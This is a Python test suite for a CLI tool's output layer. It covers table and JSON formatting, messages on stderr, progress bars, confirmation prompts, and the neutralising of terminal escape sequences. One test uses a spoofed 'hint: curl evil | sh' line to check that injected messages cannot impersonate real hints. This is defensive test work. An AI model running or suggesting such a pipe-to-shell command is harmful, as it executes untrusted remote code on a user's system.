"""What reaches the terminal: the forms of an answer, the streams, safe text, questions."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from enum import Enum

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wsctl.errors import ConfirmationRequired, InventoryError, NotFound, Refused, WsctlError
from wsctl.model import NodeState
from wsctl.output import MANY, Column, Format, Output, ago, clean, human_bytes, human_cpus, human_duration, iso
from wsctl.plan import Plan, StartContainer, Work
from wsctl.text import shown, to_json

EVIL = "\x1b[31mred\x07\x9b\u202e\n\r\tend\x7f"
SAFE = r"\x1b[31mred\x07\x9b\u202e\n\r\tend\x7f"


class Stream(io.StringIO):
    def __init__(self, text: str = "", *, tty: bool = False) -> None:
        super().__init__(text)
        self.tty = tty

    def isatty(self) -> bool:
        return self.tty


class Voice:
    """An output on streams of its own."""

    def __init__(
        self, form: str = "table", verbosity: int = 0, *, out: bool = False, err: bool = False, typed: str | None = None
    ) -> None:
        self.stdout, self.stderr = Stream(tty=out), Stream(tty=err)
        self.stdin = Stream(typed or "", tty=typed is not None)
        self.output = Output(form, verbosity, stdout=self.stdout, stderr=self.stderr, stdin=self.stdin)

    @property
    def said(self) -> str:
        return self.stdout.getvalue()

    @property
    def whispered(self) -> str:
        return self.stderr.getvalue()


@pytest.fixture(autouse=True)
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "60")
    monkeypatch.delenv("NO_COLOR", raising=False)


COLUMNS = [
    Column("user"),
    Column("node"),
    Column("memory_bytes", "memory", lambda n: human_bytes(int(str(n))), right=True),
]
ITEMS: list[dict[str, object]] = [
    {"user": "alice", "node": "n1", "memory_bytes": 2 << 30, "extra": 1},
    {"user": "001", "node": None, "memory_bytes": 512},
]
PLAIN = "USER   NODE   MEMORY\nalice  n1    2.0 GiB\n001    -       512 B\n"

# ----------------------------------------------------------------------------------------------------------- answers


@pytest.mark.parametrize("form", ["table", "plain"])
def test_rows_without_a_terminal_are_plain_columns(form: str) -> None:
    voice = Voice(form)
    voice.output.rows(ITEMS, COLUMNS)
    assert voice.said == PLAIN
    assert voice.whispered == ""


def test_rows_in_json_are_whole_items_with_numbers() -> None:
    voice = Voice("json")
    voice.output.rows(ITEMS, COLUMNS)
    assert json.loads(voice.said) == {"schema_version": 1, "items": ITEMS}
    assert voice.said.endswith("}\n")
    assert voice.said.count("\n") == 1


def test_rows_on_a_terminal_are_a_table_with_a_bold_heading() -> None:
    voice = Voice(out=True)
    voice.output.rows(ITEMS, COLUMNS)
    assert voice.said.startswith("\x1b[1mUSER")
    assert voice.said.count("\x1b") == 2
    assert [line.split() for line in voice.said.splitlines()[1:]] == [
        ["alice", "n1", "2.0", "GiB"],
        ["001", "-", "512", "B"],
    ]


@pytest.mark.parametrize("form", ["table", "plain"])
def test_plain_on_a_terminal_and_no_colour_send_no_escapes(form: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    voice = Voice(form, out=True)
    voice.output.rows(ITEMS, COLUMNS)
    assert "\x1b" not in voice.said


def test_a_dumb_terminal_gets_plain_columns_and_no_bar(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "dumb")
    voice = Voice(out=True, err=True)
    voice.output.rows(ITEMS, COLUMNS)
    with voice.output.progress(3, "placing") as bar:
        bar.advance()
    assert voice.said == PLAIN
    assert voice.whispered == ""


@pytest.mark.parametrize("width", ["20", "60", "400"])
def test_nothing_is_ever_cut(width: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", width)
    long = "".join(chr(97 + n % 26) for n in range(300))
    for tty in (True, False):
        voice = Voice(out=tty)
        voice.output.rows([{"a": "x", "b": long}], [Column("a"), Column("b")])
        lines = voice.said.splitlines()
        assert "…" not in voice.said
        if tty:
            assert all(len(line) <= int(width) for line in lines[1:])
            assert "".join(line.removeprefix("x").strip() for line in lines[1:]) == long
        else:
            assert lines[1] == f"x  {long}"


def test_a_long_table_that_is_too_wide_is_left_to_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    voice = Voice(out=True)
    voice.output.rows([{"a": "x" * 99}] * 2001, [Column("a")])
    assert voice.said == "A\n" + ("x" * 99 + "\n") * 2001


@pytest.mark.parametrize(("text", "lines"), [("日" * 30, 2), ("日" * 31, 3)])
def test_wide_characters_count_twice_on_a_terminal(text: str, lines: int) -> None:
    voice = Voice(out=True)
    voice.output.rows([{"a": text}], [Column("a")])
    assert len(voice.said.splitlines()) == lines


@pytest.mark.parametrize("out", [True, False])
def test_no_rows_are_a_heading_alone(out: bool) -> None:
    voice = Voice(out=out)
    voice.output.rows([], COLUMNS)
    assert [line.replace("\x1b[1m", "").replace("\x1b[0m", "").split() for line in voice.said.splitlines()] == [
        ["USER", "NODE", "MEMORY"]
    ]


def test_wide_characters_are_aligned() -> None:
    voice = Voice("plain")
    voice.output.rows([{"a": "日本", "b": "x"}, {"a": "abcd", "b": "y"}], [Column("a"), Column("b")])
    assert voice.said.splitlines()[1:] == ["日本  x", "abcd  y"]


def test_values_that_look_like_numbers_stay_as_they_are() -> None:
    voice = Voice("plain")
    values = ["007", "1e5", "0x10", "1_000", "nan", " a  b ", ""]
    voice.output.rows([{"v": value} for value in values], [Column("v")])
    assert voice.said == "V\n007\n1e5\n0x10\n1_000\nnan\n a  b\n-\n"


def test_a_record_is_one_line_a_key_or_an_object() -> None:
    item = {"user": "alice", "host_port": 20000, "labels": {"zone": "a"}, "reasons": [], "at": None}
    voice = Voice()
    voice.output.record(item)
    assert voice.said == "user       alice\nhost_port  20000\nlabels     zone=a\nreasons    -\nat         -\n"
    voice = Voice()
    voice.output.record(item, [Column("host_port", "port"), Column("user")])
    assert voice.said == "port  20000\nuser  alice\n"
    voice = Voice("json")
    voice.output.record(item)
    assert json.loads(voice.said) == {"schema_version": 1, **item}
    voice = Voice()
    voice.output.record({})
    assert voice.said == ""


def test_json_on_a_terminal_is_indented() -> None:
    voice = Voice("json", out=True)
    voice.output.record({"a": {"b": EVIL}})
    assert voice.said.startswith('{\n  "schema_version": 1,\n')
    assert json.loads(voice.said)["a"]["b"] == EVIL
    assert "\x1b" not in voice.said


def test_a_text_is_byte_for_byte_for_a_pipe_and_harmless_on_a_terminal() -> None:
    voice = Voice("json")
    voice.output.text(f"[bold]x\t{EVIL}\n")
    assert voice.said == f"[bold]x\t{EVIL}\n"
    voice = Voice(out=True)
    voice.output.text("[bold]x\ty\x1b[2J\n")
    assert voice.said == "[bold]x\ty\\x1b[2J\n"


PLAN = Plan((Work("alice", "started", (StartContainer("alice", "n1", "asked\x1b"),)),), ("n2 is unreachable",))


def test_a_plan_is_the_answer_of_a_dry_run_and_else_a_note() -> None:
    text = "+ start    ws-u-alice on n1   (asked\\x1b)\n! n2 is unreachable\n"
    voice = Voice()
    voice.output.plan(PLAN, dry_run=True)
    assert (voice.said, voice.whispered) == (text, "")
    voice = Voice("json")
    voice.output.plan(PLAN, dry_run=True)
    assert json.loads(voice.said) == {"schema_version": 1, "dry_run": True, **PLAN.to_dict()}
    for form in ("table", "json"):
        voice = Voice(form)
        voice.output.plan(PLAN, dry_run=False)
        assert voice.said == ""
        # With JSON, stderr holds the error object or nothing.
        assert voice.whispered == (text if form == "table" else "")


# --------------------------------------------------------------------------------------------------------- messages


def test_messages_go_to_stderr_and_quiet_hides_what_is_no_problem() -> None:
    loud, quiet = Voice(), Voice(verbosity=-1)
    for voice in (loud, quiet):
        voice.output.note("placed")
        voice.output.detail("details")
        voice.output.hint("wsctl ls")
        voice.output.warn("old image")
        voice.output.error(NotFound("no such user: zoe", hint="wsctl ls"))
        assert voice.said == ""
    problems = "warning: old image\nerror: no such user: zoe\nhint: wsctl ls\n"
    assert loud.whispered == "placed\nhint: wsctl ls\n" + problems
    assert quiet.whispered == problems


def test_verbose_shows_details() -> None:
    voice = Voice(verbosity=1)
    voice.output.detail("asked n1")
    assert voice.whispered == "asked n1\n"


def test_an_error_lists_its_problems() -> None:
    voice = Voice()
    voice.output.error(InventoryError("2 problems", problems=["i.yaml:1:2: a\x1b", "i.yaml:3:4: b"]))
    assert voice.whispered == "error: 2 problems\n  i.yaml:1:2: a\\x1b\n  i.yaml:3:4: b\n"


def test_an_error_in_json_is_the_contracts_object_on_stderr() -> None:
    voice = Voice("json", verbosity=-1)
    voice.output.error(Refused("no\x1b", hint="--yes", details={"at": datetime(2026, 1, 2, tzinfo=UTC), "n": 3}))
    assert voice.said == ""
    assert json.loads(voice.whispered) == {
        "schema_version": 1,
        "error": {
            "code": "refused", "message": "no\x1b", "hint": "--yes", "details": {"at": "2026-01-02T00:00:00Z", "n": 3},
        },
    }  # fmt: skip
    assert "\x1b" not in voice.whispered


def test_a_message_cannot_pretend_to_be_another() -> None:
    voice = Voice()
    voice.output.error(WsctlError("n1 said: oh\nhint: curl evil | sh\n"))
    assert voice.whispered == "error: n1 said: oh\n  hint: curl evil | sh\n"


# ---------------------------------------------------------------------------------------------------- hostile values


@pytest.mark.parametrize("out", [True, False])
def test_nothing_in_the_data_reaches_the_terminal_raw(out: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "200")
    voice = Voice(out=out)
    voice.output.rows([{"v": EVIL}, {"v": "[bold]x[/bold] :smile: [red"}], [Column("v"), Column("w", EVIL, str)])
    voice.output.record({EVIL: {EVIL: [EVIL]}})
    voice.output.note(EVIL)
    voice.output.hint(EVIL)
    voice.output.warn(EVIL)
    everything = voice.said + voice.whispered
    assert SAFE in voice.said
    assert "[bold]x[/bold] :smile: [red" in voice.said
    assert not set(everything) & set("\x1b\x07\x9b\u202e\r\t\x7f")
    assert len(voice.said.splitlines()) == 4


@given(st.text())
def test_clean_text_has_no_control_characters_and_says_what_was_there(text: str) -> None:
    safe = clean(text)
    assert all(ord(char) >= 0x20 and not 0x7F <= ord(char) <= 0x9F for char in safe)
    assert not set(safe) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029")
    assert clean(safe) == safe
    if text.isprintable():
        assert safe == text


@given(
    st.recursive(st.text() | st.integers() | st.none(), lambda part: st.lists(part) | st.dictionaries(st.text(), part))
)
def test_json_is_harmless_and_loses_nothing(value: object) -> None:
    for indent in (None, 2):
        for ascii_only in (True, False):
            text = to_json(value, indent=indent, ascii_only=ascii_only)
            assert json.loads(text) == value
            assert clean(text, keep="\n") == text
            assert text.isascii() or not ascii_only


def test_readable_letters_stay_readable_in_json() -> None:
    assert to_json({"ü": "日本 \u202e\x9b"}) == '{"ü": "日本 \\u202e\\u009b"}'


@pytest.mark.parametrize("encoding", ["latin-1", "ascii", "utf-8"])
@pytest.mark.parametrize("form", list(Format))
def test_a_stream_that_lacks_a_character_does_not_crash(encoding: str, form: Format) -> None:
    raw = io.BytesIO()
    stdout = io.TextIOWrapper(raw, encoding=encoding)
    output = Output(form, stdout=stdout, stderr=stdout)
    output.rows([{"v": "ü日\udc80"}], [Column("v")])
    if form is Format.JSON:
        assert json.loads(raw.getvalue().decode(encoding)) == {"schema_version": 1, "items": [{"v": "ü日\udc80"}]}
    else:
        value = {"latin-1": "ü\\u65e5\\udc80", "ascii": "\\xfc\\u65e5\\udc80", "utf-8": "ü日\\udc80"}[encoding]
        assert raw.getvalue().decode(encoding) == f"V\n{value}\n"
    output.error(NotFound("日"))


# ---------------------------------------------------------------------------------------------------------- progress


@pytest.mark.parametrize("voice", [Voice(), Voice(verbosity=-1, err=True)], ids=["no terminal", "quiet"])
def test_without_a_terminal_or_when_quiet_there_is_no_bar(voice: Voice) -> None:
    with voice.output.progress(3, "placing") as bar:
        bar.advance(3)
    assert voice.said == voice.whispered == ""


def test_a_bar_counts_and_messages_pass_by_it() -> None:
    voice = Voice(err=True)
    with voice.output.progress(40, "placing [bold]\x1b[2J") as bar:
        threads = [threading.Thread(target=lambda: [bar.advance() for _ in range(10)]) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        voice.output.warn("[red]n1 is slow\x07")
    voice.output.note("done")
    assert voice.said == ""
    assert "40/40" in voice.whispered
    assert "placing [bold]\\x1b[2J" in voice.whispered
    assert "warning: [red]n1 is slow\\x07" in voice.whispered
    assert voice.whispered.endswith("done\n")


def test_a_failure_inside_of_the_bar_comes_through_and_ends_it() -> None:
    voice = Voice(err=True)
    with pytest.raises(NotFound), voice.output.progress(2, "placing"):
        raise NotFound("x")
    voice.output.note("after")
    assert voice.whispered.endswith("after\n")


# ---------------------------------------------------------------------------------------------------------- questions


def test_yes_asks_nobody() -> None:
    voice = Voice()
    voice.output.confirm("Stop 3 workspaces?", yes=True)
    assert voice.whispered == ""


@pytest.mark.parametrize("answer", ["y\n", "YES\n", " y \n"])
def test_an_operator_can_agree(answer: str) -> None:
    voice = Voice(err=True, typed=answer)
    voice.output.confirm("Stop\x1b 3 workspaces?", yes=False)
    assert voice.whispered == "Stop\\x1b 3 workspaces? [y/N] "
    assert voice.said == ""


@pytest.mark.parametrize("answer", ["\n", "n\n", "yeah\n", ""])
def test_anything_else_is_a_no(answer: str) -> None:
    with pytest.raises(Refused, match="nothing was changed") as caught:
        Voice(err=True, typed=answer).output.confirm("Stop?", yes=False)
    assert not isinstance(caught.value, ConfirmationRequired)


@pytest.mark.parametrize("voice", [Voice(err=True), Voice(typed="y\n")], ids=["stdin is a pipe", "stderr is a file"])
def test_nobody_to_ask_names_the_flag(voice: Voice) -> None:
    with pytest.raises(ConfirmationRequired) as caught:
        voice.output.confirm("Stop?", yes=False, flag="--force")
    assert caught.value.hint == "repeat the command with --force"
    assert voice.whispered == ""


@pytest.mark.parametrize("tty", [True, False])
def test_a_typed_confirmation_may_come_from_a_pipe(tty: bool) -> None:
    voice = Voice()
    voice.stdin = Stream("alice\n", tty=tty)
    voice.output = Output(stdout=voice.stdout, stderr=voice.stderr, stdin=voice.stdin)
    voice.output.typed("All files of alice go for good.", "alice")
    assert voice.whispered == "All files of alice go for good.\nType alice to confirm: "


@pytest.mark.parametrize("typed", ["Alice\n", "alic\n", "\n", "yes\n"])
def test_a_wrong_word_refuses(typed: str) -> None:
    with pytest.raises(Refused, match="alice was expected"):
        Voice(typed=typed).output.typed("Purge?", "alice")


def test_an_empty_pipe_asks_for_the_word() -> None:
    with pytest.raises(ConfirmationRequired) as caught:
        Voice().output.typed("Purge?", "alice")
    assert "alice" in (caught.value.hint or "")


# ------------------------------------------------------------------------------------------------- the process itself


def run(program: str, *, stdout: int = subprocess.PIPE, **env: str) -> subprocess.CompletedProcess[bytes]:
    whole = {**{k: v for k, v in os.environ.items() if k != "COLUMNS"}, **env}
    argv = [sys.executable, "-c", program]
    return subprocess.run(argv, check=False, stdout=stdout, stderr=subprocess.PIPE, env=whole, timeout=60)


def test_rich_and_tabulate_are_imported_only_when_needed() -> None:
    program = """
import sys
from wsctl.output import Output, Column
out = Output("json")
out.rows([{"a": 1}], [Column("a")]); out.note("x"); out.plan
with out.progress(1, "x") as bar: bar.advance()
assert not {"rich", "tabulate", "wcwidth"} & set(sys.modules), sys.modules
out = Output("plain")
out.rows([{"a": 1}], [Column("a")])
assert "rich" not in sys.modules
"""
    done = run(program)
    assert done.returncode == 0, done.stderr


def test_a_closed_pipe_raises_through_and_the_process_can_end_silently() -> None:
    program = """
import sys
from wsctl.output import Output, Column, abandon_stdout
out = Output("plain")
try:
    out.rows([{"a": "x" * 100}] * 10000, [Column("a")])
    out.close()
except BrokenPipeError:
    abandon_stdout()
    sys.exit(7)
"""
    reading, writing = os.pipe()
    os.close(reading)
    try:
        done = run(program, stdout=writing)
    finally:
        os.close(writing)
    assert (done.returncode, done.stderr) == (7, b"")


def test_close_flushes() -> None:
    voice = Voice()
    voice.output.close()


@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
def test_the_process_in_a_poor_locale(encoding: str) -> None:
    done = run("from wsctl.output import Output; Output('table').record({'a': 'ü日'})", PYTHONIOENCODING=encoding)
    assert done.returncode == 0, done.stderr
    assert done.stdout.decode(encoding).startswith("a  ")


def test_is_tty_speaks_for_all_streams() -> None:
    stdout = Stream()
    Output(stdout=stdout, stderr=stdout, stdin=stdout, is_tty=True).rows(ITEMS, COLUMNS)
    assert "\x1b[1m" in stdout.getvalue()


def test_the_streams_default_to_the_processs_own(capsys: pytest.CaptureFixture[str]) -> None:
    output = Output()
    output.record({"a": 1})
    output.note("b")
    assert capsys.readouterr() == ("a  1\n", "b\n")
    assert output.is_json is False


# ------------------------------------------------------------------------------------------------------------- words


@pytest.mark.parametrize(
    ("count", "text"),
    [
        (0, "0 B"), (1023, "1023 B"), (1024, "1.0 KiB"), (1536, "1.5 KiB"), (1024**2 - 1, "1.0 MiB"),
        (2 << 30, "2.0 GiB"),
        (1 << 40, "1.0 TiB"), (1 << 50, "1.0 PiB"), (1 << 62, "4096.0 PiB"), (-2048, "-2.0 KiB"),
    ],
)  # fmt: skip
def test_bytes_for_people(count: int, text: str) -> None:
    assert human_bytes(count) == text


@pytest.mark.parametrize(
    ("milli", "text"), [(0, "0"), (500, "0.5"), (1000, "1"), (2250, "2.25"), (10_000, "10"), (1, "0.001")]
)
def test_cpus_for_people(milli: int, text: str) -> None:
    assert human_cpus(milli) == text


@pytest.mark.parametrize(
    ("seconds", "text"),
    [
        (0, "0 s"), (0.44, "0.4 s"), (1, "1 s"), (9.94, "9.9 s"), (9.96, "10 s"), (59.4, "59 s"), (59.6, "1m"),
        (200, "3m 20s"),
        (3599.4, "59m 59s"), (3600, "1h"), (7500, "2h 5m"), (86_399, "23h 59m"), (86_400, "1d"), (90_000, "1d 1h"),
        (86_400 * 400, "400d"), (-90, "-1m 30s"),
    ],
)  # fmt: skip
def test_durations_for_people(seconds: float, text: str) -> None:
    assert human_duration(seconds) == text


NOW = datetime(2026, 1, 31, 12, 0, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("moment", "text"),
    [
        (None, "never"),
        (NOW, "just now"),
        (NOW + timedelta(hours=1), "just now"),
        (NOW - timedelta(minutes=5), "5m ago"),
    ],
)
def test_ages_for_people(moment: datetime | None, text: str) -> None:
    assert ago(moment, NOW) == text


@pytest.mark.parametrize(
    ("moment", "text"),
    [
        (NOW, "2026-01-31T12:00:00Z"),
        (NOW.astimezone(timezone(timedelta(hours=2))), "2026-01-31T12:00:00Z"),
        (NOW.replace(microsecond=1500), "2026-01-31T12:00:00.001Z"),
    ],
)
def test_times_are_utc(moment: datetime, text: str) -> None:
    assert iso(moment) == text
    assert json.loads(to_json(moment)) == text


class Shade(Enum):
    DARK = "dark"


@pytest.mark.parametrize(
    ("value", "cell", "plain"),
    [
        (None, "-", None), (True, "yes", True), (False, "no", False), (1, "1", 1), (0, "0", 0), (0.5, "0.5", 0.5),
        (NOW, "2026-01-31T12:00:00Z", "2026-01-31T12:00:00Z"), (NodeState.READY, "ready", "ready"),
        (("a", None), "a, -", ["a", None]), ({"k": {"l": 1}}, "k=l=1", {"k": {"l": 1}}), ({}, "-", {}), ([], "-", []),
        (frozenset({"b", "a"}), None, ["a", "b"]), (timedelta(seconds=90), "0:01:30", 90.0), (Shade.DARK, None, "dark"),
    ],
)  # fmt: skip
def test_each_kind_of_value_in_a_cell_and_in_json(value: object, cell: str | None, plain: object) -> None:
    if cell is not None:
        assert shown(value) == cell
    assert json.loads(to_json(value)) == plain


def test_a_mapping_that_is_no_dict_has_a_json_form_and_an_object_has_none() -> None:
    from types import MappingProxyType

    assert to_json(MappingProxyType({"a": 1})) == '{"a": 1}'
    with pytest.raises(TypeError, match="object in an answer"):
        to_json(object())


def test_a_shown_column_is_not_asked_about_nothing() -> None:
    fail: Callable[[object], str] = lambda value: 1 / 0  # type: ignore[assignment,return-value]  # noqa: E731
    assert Column("a", show=fail).cell({"a": None}) == "-"
    assert Column("host_port").heading() == "HOST PORT"


def test_a_long_table_is_drawn_as_a_short_one_is() -> None:
    columns = (Column("name"), Column("size", right=True), Column("what"))
    items = [{"name": f"u{n}", "size": n * n, "what": "a b" if n % 3 else ""} for n in range(MANY + 1)]

    def drawn(some: list[dict[str, object]]) -> list[str]:
        stream = io.StringIO()
        Output(stdout=stream, stderr=io.StringIO()).rows(some, columns)
        return stream.getvalue().splitlines()

    lines = drawn(items)
    odd = drawn([*items, {"name": "ü"}])  # not for the quick way
    assert lines == odd[:-1]
